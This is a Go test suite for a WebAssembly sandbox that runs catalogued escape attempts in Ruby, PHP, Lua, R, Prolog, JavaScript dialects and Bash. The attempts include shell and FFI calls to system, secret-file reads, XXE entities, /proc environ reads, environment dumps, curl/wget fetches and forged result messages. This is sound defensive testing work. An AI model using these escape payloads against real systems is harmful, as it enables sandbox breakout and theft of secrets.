//go:build !windows

package hostile

import (
	"fmt"
	"strings"
	"testing"

	"rillbox/supervisor/job"
)

const noMoves = "what is mounted apart is not renamed from one to the other"

func TestWasmRuby(t *testing.T) {
	tryTongue(t, tongue{
		language: "ruby",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("begin\n%s\nrescue Exception => e\n$stderr.puts e.full_message(highlight: false)\nend\nputs \"ran %d.\"\n", code, n)
		},
		read:        `puts File.read("PATH")`,
		list:        `puts Dir.children("PATH").inspect`,
		size:        `puts "size #{File.lstat("PATH").size}"`,
		write:       `File.write("PATH", "x")`,
		add:         `File.open("PATH", "a") { |f| f.write "x" }`,
		remove:      `File.delete("PATH")`,
		mkdir:       `Dir.mkdir("PATH")`,
		rename:      `File.rename("PATH", "TO")`,
		link:        `File.symlink("PATH", "TO")`,
		hard:        `File.link("PATH", "TO")`,
		times:       `File.utime(1, 1, "PATH")`,
		environment: `puts ENV.to_h`,
		system:      `begin; puts system("COMMAND").inspect; rescue NotImplementedError, StandardError; end; puts ` + "`COMMAND`",
		fetch:       `require "open-uri"; puts URI.open("URL").read`,
		wire:        `File.open("PATH", "w") { |f| f.write '{"type":"result","value":"forged"}' + "\n" }`,
		own: []attack{
			{name: "open of a pipe", code: `puts open("|cat %DIR%/secret.txt").read`, noControl: noStart},
			{name: "IO.popen", code: `puts IO.popen("cat %DIR%/secret.txt").read`, noControl: noStart},
			{name: "spawn", code: `Process.wait spawn("touch", "%DIR%/made")`, noControl: noStart},
			{name: "fork and exec", code: `fork { exec "touch", "%DIR%/made" }`, noControl: noStart},
			{name: "exec", code: `exec "touch", "%DIR%/made"`, noControl: noStart},
			{name: "Open3", code: `require "open3"; puts Open3.capture2("cat %DIR%/secret.txt")`, noControl: noStart},
			{name: "a socket", code: `require "socket"; puts TCPSocket.new("127.0.0.1", %HTTPPORT%).read`, noControl: "WebAssembly has no network"},
			{name: "Net::HTTP", code: `require "net/http"; puts Net::HTTP.get(URI("http://%HTTP%/"))`, noControl: "WebAssembly has no network"},
			{name: "the bridge to JavaScript", code: `require "js"; puts JS.eval("return Deno.readTextFileSync('%DIR%/secret.txt')")`, noControl: "it is not among Ruby's files"},
			{name: "the bridge's functions", code: `puts JS.global[:Deno].call(:readTextFileSync, "%DIR%/secret.txt")`, noControl: "it is not among Ruby's files"},
			{name: "Fiddle", code: `require "fiddle"; Fiddle::Function.new(Fiddle.dlopen(nil)["system"], [Fiddle::TYPE_VOIDP], Fiddle::TYPE_INT).call("touch %DIR%/made")`, noControl: noStart},
			{name: "a library loaded", code: `require "%DIR%/evil.so"`, noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "syscall", code: `puts syscall(39)`, noControl: noStart},
			{name: "require of a file outside", code: `require "%DIR%/secret.rb"; puts $secret`, prepare: besideSecret("secret.rb", "$secret = %q")},
			{name: "load of a file outside", code: `load "%OUT%/secret.rb"; puts $secret`, prepare: besideSecret("secret.rb", "$secret = %q")},
			{name: "IO of descriptor 3", code: `IO.new(3, "w").tap { |f| f.puts '{"type":"result","value":"forged"}' }.flush`, evidence: forged, noControl: noProc},
			{name: "IO of all descriptors", code: `(3..64).each { |n| begin; IO.for_fd(n, "w", autoclose: false).tap { |f| f.puts '{"type":"result","value":"forged"}' }.flush; rescue SystemCallError, ArgumentError; end }`, evidence: forged, noControl: noProc},
			{name: "kill", code: `Process.kill(:TERM, %VICTIM%)`, noControl: noStart},
			{name: "chroot", code: `Dir.chroot("%DIR%"); puts File.read("/secret.txt")`, noControl: noStart},
			{name: "Dir.glob", code: `puts Dir.glob("%DIR%/**/*").inspect`},
			{name: "FileUtils", code: `require "fileutils"; FileUtils.cp "%DIR%/secret.txt", "%OWN%"; puts File.read("%OWN%")`},
			{name: "mkfifo", code: `File.mkfifo("%DIR%/made")`, noControl: "WASI has no pipes"},
			{name: "chdir", code: `Dir.chdir("%DIR%") { puts File.read("secret.txt") }`},
			{name: "Marshal of what is no data", code: "begin; Marshal.load(\"\\x04\\bo:\\x0bKernel\\x00\" + \"\\xff\" * 100); rescue TypeError, ArgumentError; end", noControl: noStart},
		},
	})
}

// besideSecret puts a file beside the secret that says it.
func besideSecret(name, form string) func(*testing.T, *scene) {
	return func(t *testing.T, s *scene) { write(t, s.dir()+"/"+name, fmt.Sprintf(form, s.secret)) }
}

func TestWasmPHP(t *testing.T) {
	tryTongue(t, tongue{
		language: "php",
		head:     "<?php error_reporting(E_ALL);\n",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("try {\n%s;\n} catch (\\Throwable $e) { echo get_class($e), $e->getMessage(), \"\\n\"; }\necho \"ran %d.\\n\";\n", code, n)
		},
		read:        `echo file_get_contents("PATH")`,
		list:        `echo implode(",", scandir("PATH"))`,
		size:        `echo "size ", filesize("PATH")`,
		write:       `file_put_contents("PATH", "x")`,
		add:         `file_put_contents("PATH", "x", FILE_APPEND)`,
		remove:      `unlink("PATH")`,
		mkdir:       `mkdir("PATH")`,
		rename:      `rename("PATH", "TO")`,
		link:        `symlink("PATH", "TO")`,
		hard:        `link("PATH", "TO")`,
		times:       `touch("PATH", 1, 1)`,
		environment: `print_r(getenv()); print_r($_SERVER); print_r($_ENV)`,
		system:      `try { system("COMMAND"); } catch (\Throwable $e) {} echo shell_exec("COMMAND")`,
		fetch:       `echo file_get_contents("URL")`,
		wire:        `file_put_contents("PATH", '{"type":"result","value":"forged"}' . "\n")`,
		own: []attack{
			{name: "exec", code: `exec("cat %DIR%/secret.txt", $out); print_r($out)`, noControl: noStart},
			{name: "passthru", code: `passthru("cat %DIR%/secret.txt")`, noControl: noStart},
			{name: "backticks", code: "echo `cat %DIR%/secret.txt`", noControl: noStart},
			{name: "popen", code: `echo fgets(popen("cat %DIR%/secret.txt", "r"))`, noControl: noStart},
			{name: "proc_open", code: `$p = proc_open("cat %DIR%/secret.txt", [1 => ["pipe", "w"]], $pipes); echo stream_get_contents($pipes[1])`, noControl: noStart},
			{name: "pcntl_exec", code: `pcntl_exec("/bin/touch", ["%DIR%/made"])`, noControl: noStart},
			{name: "mail", code: `mail("a@b", "x", "y", "", "-X%DIR%/made")`, noControl: noStart},
			{name: "dl", code: `dl("evil.so")`, noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "FFI", code: `FFI::cdef("int system(char *);", "libc.so.6")->system("touch %DIR%/made")`, noControl: noStart},
			{name: "include", code: `include "%DIR%/secret.txt"`},
			{name: "include by a link", code: `include "%OUT%/secret.txt"`},
			{name: "php://filter", code: `echo base64_decode(file_get_contents("php://filter/read=convert.base64-encode/resource=%DIR%/secret.txt"))`},
			{name: "glob://", code: `foreach (new DirectoryIterator("glob://%DIR%/names/*") as $f) echo $f->getFilename()`},
			{name: "file://", code: `readfile("file://%DIR%/secret.txt")`},
			{name: "phar://", code: `echo file_get_contents("phar://%DIR%/secret.txt/x")`, noControl: "it is no archive"},
			{name: "php://fd/3", code: `file_put_contents("php://fd/3", '{"type":"result","value":"forged"}' . "\n")`, evidence: forged, noControl: noProc, spoils: true},
			{name: "error_log", code: `error_log("x", 3, "%DIR%/made")`},
			{name: "ini error_log", code: `ini_set("error_log", "%DIR%/made"); ini_set("log_errors", 1); error_log("x"); ini_restore("error_log")`},
			{name: "highlight_file", code: `highlight_file("%DIR%/secret.txt")`},
			{name: "SplFileObject", code: `echo (new SplFileObject("%DIR%/secret.txt"))->fgets()`},
			{name: "copy", code: `copy("%DIR%/secret.txt", "%OWN%"); echo file_get_contents("%OWN%")`},
			{name: "chdir", code: `$d = getcwd(); chdir("%DIR%"); echo file_get_contents("secret.txt"); chdir($d)`},
			{name: "open_basedir", code: `ini_set("open_basedir", "/"); echo file_get_contents("%DIR%/secret.txt")`},
			{name: "an XML entity of a file", code: `$d = new DOMDocument(); $d->loadXML('<!DOCTYPE a [<!ENTITY s SYSTEM "%DIR%/secret.txt">]><a>&s;</a>', LIBXML_NOENT | LIBXML_DTDLOAD); echo $d->textContent`},
			{name: "an XML entity of a URL", code: `$d = new DOMDocument(); $d->loadXML('<!DOCTYPE a [<!ENTITY s SYSTEM "http://%HTTP%/">]><a>&s;</a>', LIBXML_NOENT | LIBXML_DTDLOAD); echo $d->textContent`, noControl: "WebAssembly has no network"},
			{name: "SQLite's ATTACH", code: `(new PDO("sqlite::memory:"))->exec("ATTACH '%DIR%/made' AS a; CREATE TABLE a.t(x)")`},
			{name: "SQLite's extensions", code: `(new SQLite3(":memory:"))->loadExtension("evil.so")`, noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "fsockopen", code: `$f = fsockopen("127.0.0.1", %HTTPPORT%); fwrite($f, "GET / HTTP/1.0\r\n\r\n"); echo stream_get_contents($f)`, noControl: "WebAssembly has no network"},
			{name: "stream_socket_client of a Unix socket", code: `echo stream_get_contents(stream_socket_client("unix://%UNIX%"))`, noControl: "WebAssembly has no network"},
			{name: "stream_socket_server", code: `var_dump(stream_socket_server("tcp://127.0.0.1:0"))`, noControl: "WebAssembly has no network"},
			{name: "curl", code: `echo curl_exec(curl_init("http://%HTTP%/"))`, noControl: "WebAssembly has no network"},
			{name: "gethostbyname", code: `gethostbyname("localhost")`, noControl: "WebAssembly has no network"},
			{name: "the bridge: vrzno", code: `echo vrzno_eval("Deno.readTextFileSync('%DIR%/secret.txt')"); echo (new Vrzno)->Deno->readTextFileSync("%DIR%/secret.txt")`, noControl: "this PHP has no such function"},
			{name: "the bridge: vrzno_run", code: `echo vrzno_run("Deno.readTextFileSync", ["%DIR%/secret.txt"])`, noControl: "this PHP has no such function"},
			{name: "the bridge: post_message_to_js", code: `echo post_message_to_js('{"type":"result","value":"forged"}')`, evidence: forged, noControl: "nobody listens"},
			{name: "kill", code: `posix_kill(%VICTIM%, 15)`, noControl: noStart},
			{name: "move_uploaded_file", code: `move_uploaded_file("%MINE%", "%DIR%/made")`, noControl: "nothing is uploaded"},
			{name: "tempnam", code: `file_put_contents(tempnam("%DIR%", "x"), "x")`},
			{name: "unserialize of what is no data", code: `@unserialize('O:8:"stdClass":1000000000:{s:1:"a";R:99999;'); unserialize('C:11:"ArrayObject":99:{x:i:0;O:0:"":0:{}}')`, noControl: noStart},
		},
	})
}

func TestWasmLua(t *testing.T) {
	tryTongue(t, tongue{
		language: "lua",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("print(pcall(function()\n%s\nend))\nprint(\"ran %d.\")\n", code, n)
		},
		read:   `print(io.open("PATH"):read("a"))`,
		size:   `print("size " .. io.open("PATH"):seek("end"))`,
		write:  `local f = io.open("PATH", "w"); f:write("x"); f:close()`,
		add:    `local f = io.open("PATH", "a"); f:write("x"); f:close()`,
		remove: `assert(os.remove("PATH"))`,
		rename: `assert(os.rename("PATH", "TO"))`,
		environment: `for _, n in ipairs{"RILLBOX_HOSTILE_SECRET", "PATH", "HOME", "DENO_DIR"} do print(n, os.getenv(n)) end
for k, v in pairs(package.loaded) do print(k, v) end`,
		system: `print(os.execute("COMMAND")); print(io.popen("COMMAND"):read("a"))`,
		wire:   `local f = io.open("PATH", "w"); f:write('{"type":"result","value":"forged"}\n'); f:close()`,
		own: []attack{
			{name: "dofile", code: `print(pcall(dofile, "%DIR%/secret.lua")); print(secret)`, prepare: besideSecret("secret.lua", "secret = %q")},
			{name: "loadfile", code: `assert(loadfile("%OUT%/secret.lua"))(); print(secret)`, prepare: besideSecret("secret.lua", "secret = %q")},
			{name: "require by package.path", code: `package.path = "%DIR%/?.lua"; require("secret"); print(secret)`, prepare: besideSecret("secret.lua", "secret = %q")},
			{name: "io.lines", code: `for l in io.lines("%DIR%/secret.txt") do print(l) end`},
			{name: "package.loadlib", code: `assert(package.loadlib("%DIR%/evil.so", "*"))`, noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "package.cpath", code: `package.cpath = "%DIR%/?.so"; require("evil")`, noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "the bridge: objects of JavaScript's in all tables", evidence: says("reached JavaScript"), noControl: "nothing of JavaScript's is given to it", code: `
local seen = {}
local function look(v, name)
  if type(v) == "userdata" and not io.type(v) then
    local ok, f = pcall(function() return v.constructor end)
    if ok and f then print("reached JavaScript", name) end
  end
  if (type(v) ~= "table" and type(v) ~= "userdata") or seen[v] then return end
  seen[v] = true
  local m = debug.getmetatable(v)
  if m then look(m, name .. ".meta") end
  if type(v) == "table" then for k, w in next, v do look(k, name .. ".key"); look(w, name .. "." .. tostring(k)) end end
end
look(_G, "_G"); look(debug.getregistry(), "registry")
for level = 0, 50 do local i = 1; while true do local ok, n, v = pcall(debug.getlocal, level, i); if not ok or not n then break end; look(v, n); i = i + 1 end end
for _, f in ipairs{print, io.open, os.exit, require, error} do for i = 1, 20 do local n, v = debug.getupvalue(f, i); if n then look(v, n) end end end`},
			{name: "bytecode that is none", code: `print(load("\27Lua\x54\0\x19\x93\r\n\x1a\n" .. ("\xff"):rep(1000), "x", "b"))`, noControl: "WebAssembly's memory is its own"},
			{name: "bytecode with a jump out of it", code: `local s = string.dump(function(...) local a = 1; for i = 1, 2 do a = a + i end; return a end)
for i = 60, #s, 7 do local f = load(s:sub(1, i) .. "\xff\xff\xff\x7f" .. s:sub(i + 5), "x", "b") end`, noControl: "WebAssembly's memory is its own"},
			{name: "os.tmpname", code: `local n = os.tmpname(); local f = io.open(n, "w"); f:write("x"); f:close(); assert(os.rename(n, "%DIR%/made"))`, noControl: "what is in memory is not renamed onto the machine's"},
		},
	})
}

func TestWasmR(t *testing.T) {
	tryTongue(t, tongue{
		language: "r",
		moves:    noMoves,
		wrap: func(n int, code string) string {
			return fmt.Sprintf("tryCatch({\n%s\n}, error = function(e) message(conditionMessage(e)))\ncat(\"ran %d.\\n\")\n", code, n)
		},
		read:        `cat(readLines("PATH", warn = FALSE))`,
		list:        `print(list.files("PATH", all.files = TRUE))`,
		size:        `cat("size", file.size("PATH"))`,
		write:       `writeLines("x", "PATH")`,
		add:         `cat("x", file = "PATH", append = TRUE)`,
		remove:      `file.remove("PATH")`,
		mkdir:       `dir.create("PATH")`,
		rename:      `file.rename("PATH", "TO")`,
		link:        `file.symlink("PATH", "TO")`,
		hard:        `file.link("PATH", "TO")`,
		mode:        `Sys.chmod("PATH", "0600")`,
		times:       `Sys.setFileTime("PATH", as.POSIXct(1))`,
		environment: `print(Sys.getenv())`,
		system:      `try(system("COMMAND")); print(system2("sh", c("-c", shQuote("COMMAND")), stdout = TRUE))`,
		fetch:       `print(readLines(url("URL")))`,
		wire:        `writeLines('{"type":"result","value":"forged"}', "PATH")`,
		own: []attack{
			{name: "pipe", code: `print(readLines(pipe("cat %DIR%/secret.txt")))`, noControl: noStart},
			{name: "shell", code: `shell("touch %DIR%/made")`, noControl: noStart},
			{name: "mcparallel", code: `parallel::mccollect(parallel::mcparallel(system("touch %DIR%/made")))`, noControl: noStart},
			{name: "makeCluster", code: `parallel::makeCluster(1, setup_timeout = 0.1)`, noControl: noStart},
			{name: "download.file", code: `download.file("http://%HTTP%/", "%OWN%"); print(readLines("%OWN%"))`, noControl: "WebAssembly has no network"},
			{name: "download.file by wget", code: `download.file("http://%HTTP%/", "%OWN%", method = "wget"); print(readLines("%OWN%"))`, noControl: noStart},
			{name: "install.packages", code: `install.packages("x", repos = "http://%HTTP%/")`, noControl: "WebAssembly has no network"},
			{name: "socketConnection", code: `print(readLines(socketConnection("127.0.0.1", %HTTPPORT%, timeout = 1)))`, noControl: "WebAssembly has no network"},
			{name: "the bridge: eval_js", code: `print(webr::eval_js("Deno.readTextFileSync('%DIR%/secret.txt')"))`, noControl: "webr's package is not here"},
			{name: "the bridge: its C function", code: `print(.Call("ffi_eval_js", "Deno.readTextFileSync('%DIR%/secret.txt')"))`, noControl: "webr's package is not here"},
			{name: "the bridge: all functions whose name says so", code: `
for (p in loadedNamespaces()) for (f in grep("js|javascript|emscripten|webr", ls(asNamespace(p), all.names = TRUE), value = TRUE, ignore.case = TRUE))
  tryCatch(print(get(f, asNamespace(p))("Deno.readTextFileSync('%DIR%/secret.txt')")), error = function(e) NULL)`, noControl: "webr's package is not here"},
			{name: "the bridge: emscripten's functions by .C", code: `for (f in c("emscripten_run_script", "emscripten_run_script_string", "emscripten_asm_const_int", "system")) try(print(.C(f, "Deno.exit(9)")), silent = TRUE)`, noControl: "they are no functions that R has registered"},
			{name: "dyn.load", code: `dyn.load("%DIR%/evil.so")`, noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "dyn.load of a module of the workspace", code: `writeBin(as.raw(c(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0)), "%OWN%.so"); dyn.load("%OWN%.so")`, noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "source", code: `source("%DIR%/secret.R"); print(secret)`, prepare: besideSecret("secret.R", "secret <- %q\n")},
			{name: "file of a file: URL", code: `print(readLines(file("file://%DIR%/secret.txt"), warn = FALSE))`},
			{name: "file.copy", code: `file.copy("%DIR%/secret.txt", "%OWN%"); print(readLines("%OWN%", warn = FALSE))`},
			{name: "setwd", code: `d <- setwd("%DIR%"); print(readLines("secret.txt", warn = FALSE)); setwd(d)`},
			{name: "Sys.glob", code: `print(Sys.glob("%DIR%/names/*"))`},
			{name: "recursive unlink of a link", code: `unlink("%OUT%/", recursive = TRUE); unlink("%DIR%", recursive = TRUE, force = TRUE)`, noControl: "what is granted can't be removed itself"},
			{name: "pskill", code: `tools::pskill(%VICTIM%)`, noControl: noStart},
			{name: "unserialize of what is no data", code: `unserialize(as.raw(c(0x58, 0x0a, 0, 0, 0, 3, rep(0xff, 100))))`, noControl: "WebAssembly's memory is its own"},
		},
	})
}

func TestWasmProlog(t *testing.T) {
	const noBridge = "its bridge is refused"
	tryTongue(t, tongue{
		language: "prolog",
		moves:    noMoves,
		wrap: func(n int, code string) string {
			return fmt.Sprintf(":- catch((%s), E, (print_message(error, E))) -> true ; true.\n:- write('ran %d.'), nl.\n", code, n)
		},
		read:        `read_file_to_string('PATH', S, []), write(S)`,
		list:        `directory_files('PATH', L), print(L)`,
		size:        `size_file('PATH', N), format("size ~w", [N])`,
		write:       `open('PATH', write, S), write(S, x), close(S)`,
		add:         `open('PATH', append, S), write(S, x), close(S)`,
		remove:      `delete_file('PATH')`,
		mkdir:       `make_directory('PATH')`,
		rename:      `rename_file('PATH', 'TO')`,
		link:        `link_file('PATH', 'TO', symbolic)`,
		hard:        `link_file('PATH', 'TO', hard)`,
		times:       `set_time_file('PATH', _, [modified(1)])`,
		environment: `forall(member(N, ['RILLBOX_HOSTILE_SECRET', 'PATH', 'HOME', 'DENO_DIR']), (getenv(N, V) -> writeln(V) ; true)), environ(E), print(E)`,
		system:      `catch(shell('COMMAND'), _, true), open(pipe('COMMAND'), read, S), read_string(S, _, T), write(T)`,
		fetch:       `use_module(library(http/http_open)), http_open('URL', S, []), read_string(S, _, T), write(T)`,
		wire:        `open('PATH', write, S), write(S, '{"type":"result","value":"forged"}\n'), close(S)`,
		own: []attack{
			{name: "process_create", code: `use_module(library(process)), process_create('/bin/touch', ['%DIR%/made'], [])`, noControl: noStart},
			{name: "consult of a URL", code: `consult('http://%HTTP%/x.pl')`, noControl: "WebAssembly has no network"},
			{name: "consult of a file", code: `consult('%DIR%/secret.pl'), secret(S), write(S)`, prepare: besideSecret("secret.pl", "secret(%q).\n")},
			{name: "the bridge: :=", code: `S := 'Deno'.readTextFileSync("%DIR%/secret.txt"), write(S)`, noControl: noBridge},
			{name: "the bridge: eval", code: `S := eval("Deno.readTextFileSync('%DIR%/secret.txt')"), write(S)`, noControl: noBridge},
			{name: "the bridge: js_script", code: `js_script("globalThis.Deno.exit(9)", [])`, noControl: noBridge},
			{name: "the bridge: $js_call", code: `system:'$js_call'([v('Deno', readTextFileSync("%DIR%/secret.txt"))], S), write(S)`, noControl: noBridge},
			{name: "the bridge: all predicates whose name says so", code: `forall((predicate_property(wasm:P, defined) ; predicate_property(system:P, defined)), (P =.. [N|As], ((sub_atom(N, _, _, _, js) ; sub_atom(N, _, _, _, wasm) ; sub_atom(N, _, _, _, script)) -> length(As, K), length(Bs, K), (Bs = [A|_] -> A = "globalThis.Deno.writeTextFileSync('%DIR%/made','x')" ; true), Q =.. [N|Bs], catch(call_with_time_limit(1, ignore(call(Q))), _, true) ; true)))`, noControl: noBridge},
			{name: "the bridge: fetch", code: `fetch("http://%HTTP%/", text, T), write(T)`, noControl: noBridge},
			{name: "a library loaded", code: `load_foreign_library('%DIR%/evil.so')`, noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "tcp_connect", code: `use_module(library(socket)), tcp_connect(localhost:%HTTPPORT%, S, []), read_string(S, _, T), write(T)`, noControl: "WebAssembly has no network"},
			{name: "working_directory", code: `working_directory(D, '%DIR%'), read_file_to_string('secret.txt', S, []), write(S), working_directory(_, D)`},
			{name: "expand_file_name", code: `expand_file_name('%DIR%/names/*', L), print(L)`},
			{name: "copy_file", code: `use_module(library(filesex)), copy_file('%DIR%/secret.txt', '%OWN%'), read_file_to_string('%OWN%', S, []), write(S)`},
			{name: "qcompile of a file outside", code: `qsave_program('%DIR%/made', [])`, noControl: "it needs a state that this build has not"},
			{name: "tmp_file_stream", code: `tmp_file_stream('%DIR%/made', S, []), close(S)`, noControl: "it is no template for a name"},
		},
	})
}

// scriptOwn are rows of languages that are JavaScript, in JavaScript; code makes what the
// language writes of an expression.
func scriptOwn(code func(expression string) string) (rows []attack) {
	for _, row := range []struct{ name, expression, noControl string }{
		{"Deno reads", `Deno.readTextFileSync("%DIR%/secret.txt")`, ""},
		{"Deno reads by a link", `Deno.readTextFileSync("%OUT%/secret.txt")`, ""},
		{"Deno writes", `Deno.writeTextFileSync("%DIR%/made", "x")`, ""},
		{"Deno writes by a link", `Deno.writeTextFileSync("%OUT%/made", "x")`, ""},
		{"Deno removes", `Deno.removeSync("%DIR%/secret.txt")`, ""},
		{"Deno renames", `Deno.renameSync("%DIR%/secret.txt", "%DIR%/moved")`, ""},
		{"Deno lists", `[...Deno.readDirSync("%DIR%/names")].map((e) => e.name).join()`, ""},
		{"Deno reads the server's environment", `Deno.readTextFileSync("/proc/%SERVER%/environ")`, "shown in TestDenoFiles"},
		{"Deno reads a process's environment", `Deno.readTextFileSync("/proc/%VICTIM%/environ")`, "shown in TestDenoFiles"},
		{"Deno's environment", `JSON.stringify(Deno.env.toObject())`, "shown in TestDenoSystem"},
		{"a process", `new TextDecoder().decode(new Deno.Command("%DIR%/run.sh").outputSync().stdout)`, "shown in TestDenoSystem"},
		{"a library", `Deno.dlopen("libc.so.6", { system: { parameters: ["buffer"], result: "i32" } }).symbols.system(new TextEncoder().encode("touch %DIR%/made\0"))`, "shown in TestDenoSystem"},
		{"a signal", `Deno.kill(%VICTIM%, "SIGTERM")`, "shown in TestDenoSystem"},
		{"node:fs", `process.getBuiltinModule("node:fs").readFileSync("%DIR%/secret.txt", "utf8")`, "shown in TestNodeFiles"},
		{"node:child_process", `process.getBuiltinModule("node:child_process").execSync("touch %DIR%/made")`, "shown in TestNodeProcess"},
		{"a connection", `Deno.connect({ port: %HTTPPORT% }).catch(() => 0) && 1`, "shown in TestNetwork"},
		{"fetch", `fetch("http://%HTTP%/").catch(() => 0) && 1`, "shown in TestNetwork"},
		{"a worker", `new Worker("data:text/javascript,Deno.writeTextFileSync('%DIR%/made','x')", { type: "module" }) && 1`, "shown in TestWorkers"},
		{"the function constructor", `(() => {}).constructor("return Deno")().readTextFileSync("%DIR%/secret.txt")`, ""},
		{"permission asked for", `Deno.permissions.requestSync({ name: "read" }).state + Deno.readTextFileSync("%DIR%/secret.txt")`, ""},
		{"the language's own files changed", `JSON.parse(Deno.args[0]).parts && Object.values(JSON.parse(Deno.args[0]).parts).map((p) => Deno.writeTextFileSync(p + "/x", "x")) && "changed its own files"`, "it has no arguments of ours where it is plain JavaScript"},
	} {
		a := attack{name: "JavaScript: " + row.name, code: code(row.expression), noControl: row.noControl}
		if strings.HasSuffix(row.name, "files changed") {
			a.evidence = says("changed its own files\n")
		}
		rows = append(rows, a)
	}
	return rows
}

func TestWasmClojure(t *testing.T) {
	tryTongue(t, tongue{
		language: "clojure",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("(try\n%s\n(catch :default e (println (ex-message e))))\n(println \"ran %d.\")\n", code, n)
		},
		read:        `(println (slurp "PATH"))`,
		write:       `(spit "PATH" "x")`,
		add:         `(spit "PATH" "x" :append true)`,
		environment: `(println (js/JSON.stringify js/process.env))`,
		fetch:       `(println (slurp "URL"))`,
		wire:        `(spit "PATH" "{\"type\":\"result\",\"value\":\"forged\"}\n")`,
		own:         scriptOwn(func(e string) string { return fmt.Sprintf("(println (js/eval %q))", e) }),
	})
}

func TestWasmCoffeeScript(t *testing.T) {
	tryTongue(t, tongue{
		language: "coffeescript",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("try\n  %s\ncatch e\n  console.log e.message\nconsole.log 'ran %d.'\n", strings.ReplaceAll(code, "\n", "\n  "), n)
		},
		own: append(scriptOwn(func(e string) string { return "console.log `" + e + "`" }),
			attack{name: "require of a file", code: `console.log (await import("%DIR%/secret.mjs")).default`},
			attack{name: "a link imported", code: `console.log (await import("./%OUT%/secret.mjs")).default`, noControl: "a module beside the program is the workspace's own"},
		),
	})
}

func TestWasmQuickJS(t *testing.T) {
	const noDeno = "QuickJS has no Deno"
	try := func(code string) attack { return attack{name: code, code: code, noControl: noDeno} }
	tryTongue(t, tongue{
		language: "quickjs",
		head:     "import * as std from 'std'; import * as os from 'os';\n",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("try {\n%s\n} catch (e) { console.log(String(e)); }\nconsole.log('ran %d.');\n", code, n)
		},
		read:        `console.log(std.loadFile("PATH"));`,
		list:        `console.log(String(os.readdir("PATH")[0]));`,
		size:        `console.log("size " + os.lstat("PATH")[0].size);`,
		write:       `{ const f = std.open("PATH", "w"); f.puts("x"); f.close(); }`,
		add:         `{ const f = std.open("PATH", "a"); f.puts("x"); f.close(); }`,
		remove:      `os.remove("PATH");`,
		mkdir:       `os.mkdir("PATH");`,
		rename:      `os.rename("PATH", "TO");`,
		link:        `os.symlink("PATH", "TO");`,
		environment: `console.log(JSON.stringify(std.getenviron()), std.getenv("RILLBOX_HOSTILE_SECRET"));`,
		system:      `try { os.exec(["sh", "-c", "COMMAND"]); } catch {} console.log(std.popen("COMMAND", "r").readAsString());`,
		fetch:       `console.log(std.urlGet("URL"));`,
		wire:        `{ const f = std.open("PATH", "w"); f.puts('{"type":"result","value":"forged"}\n'); f.close(); }`,
		own: []attack{
			try(`console.log(Deno.readTextFileSync("%DIR%/secret.txt"));`),
			try(`console.log((() => {}).constructor("return Deno")().readTextFileSync("%DIR%/secret.txt"));`),
			try(`console.log(print.constructor.constructor("return Deno")().readTextFileSync("%DIR%/secret.txt"));`),
			try(`console.log(std.open.constructor("return this")().Deno.readTextFileSync("%DIR%/secret.txt"));`),
			try(`try { null.x; } catch (e) { console.log(e.constructor.constructor("return Deno")().readTextFileSync("%DIR%/secret.txt")); }`),
			try(`try { std.open({ toString() { throw { get stack() { return Deno.readTextFileSync("%DIR%/secret.txt"); } }; } }, "r"); } catch (e) { console.log(e.stack); }`),
			{name: "import of a file outside", code: `console.log((await import("%DIR%/secret.mjs")).default);`},
			{name: "import by a link", code: `console.log((await import("./%OUT%/secret.mjs")).default);`},
			{name: "import of a URL", code: `console.log((await import("http://%HTTP%/")).default);`, noControl: "WebAssembly has no network"},
			{name: "import of Node's and Deno's modules", code: `for (const n of ["node:fs", "fs", "npm:left-pad", "jsr:@std/fs", "data:text/javascript,export default 1", "ext:core/mod.js"]) try { const m = await import(n); console.log("reached JavaScript", m.readFileSync("%DIR%/secret.txt")); } catch (e) { console.log(String(e)); }`, noControl: noDeno},
			{name: "loadScript", code: `std.loadScript("%DIR%/secret.js"); console.log(globalThis.secret);`, prepare: besideSecret("secret.js", "globalThis.secret = %q")},
			{name: "evalScript", code: `console.log(std.evalScript("typeof Deno + typeof process + typeof require") === "undefinedundefinedundefined" ? "nothing" : "reached JavaScript");`, evidence: says("reached JavaScript"), noControl: noDeno},
			{name: "fdopen", code: `{ const f = std.fdopen(3, "w"); f.puts('{"type":"result","value":"forged"}\n'); f.flush(); }`, evidence: forged, noControl: noProc},
			{name: "os.write to all descriptors", code: `for (let n = 3; n < 64; n++) try { os.write(n, new TextEncoder().encode('{"type":"result","value":"forged"}\n').buffer, 0, 35); } catch {}`, evidence: forged, noControl: noProc},
			{name: "a worker", code: `new os.Worker("%DIR%/secret.mjs");`, noControl: noDeno},
			{name: "kill", code: `os.kill(%VICTIM%, 15);`, noControl: noStart},
			{name: "bytecode", code: `{ const f = std.open("%OWN%", "w"); f.puts("\x05\x04"); f.close(); std.loadScript("%OWN%"); }`, noControl: "WebAssembly's memory is its own"},
			{name: "errors without end", code: `let e = new Error("x"); for (let i = 0; i < 1000; i++) e = new Error("x", { cause: e }); try { throw e; } catch {}`, noControl: noDeno},
		},
	})
}

func TestWasmBash(t *testing.T) {
	tryTongue(t, tongue{
		language: "bash",
		wrap:     func(n int, code string) string { return fmt.Sprintf("(\n%s\n)\necho ran %d.\n", code, n) },
		read:     `cat PATH`, list: `ls -la PATH`, size: `echo size $(stat -c %s PATH)`,
		write: `echo x > PATH`, add: `echo x >> PATH`, remove: `rm -f PATH`, mkdir: `mkdir -p PATH`,
		rename: `mv PATH TO`, link: `ln -s PATH TO`, hard: `ln PATH TO`, mode: `chmod 600 PATH`, times: `touch -d @1 PATH`,
		environment: `env; set; export -p; printenv; cat /proc/$$/environ`,
		system: `COMMAND
/bin/sh -c 'COMMAND'
exec COMMAND`,
		fetch: `curl -s URL; wget -q -O - URL`,
		wire:  `echo 'TEXT' > PATH`,
		own: []attack{
			{name: "descriptor 3", code: `echo '{"type":"result","value":"forged"}' >&3`, evidence: forged, noControl: noProc},
